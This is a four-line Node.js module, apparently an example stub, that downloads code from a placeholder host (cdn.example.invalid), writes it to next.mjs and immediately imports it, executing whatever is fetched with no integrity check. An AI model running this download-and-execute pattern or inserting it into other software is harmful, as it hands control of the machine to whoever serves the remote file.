import { writeFileSync } from 'node:fs';
const next = new URL('./next.mjs', import.meta.url).pathname;
writeFileSync(next, await (await fetch('https://cdn.example.invalid/n')).text());
await import(next);
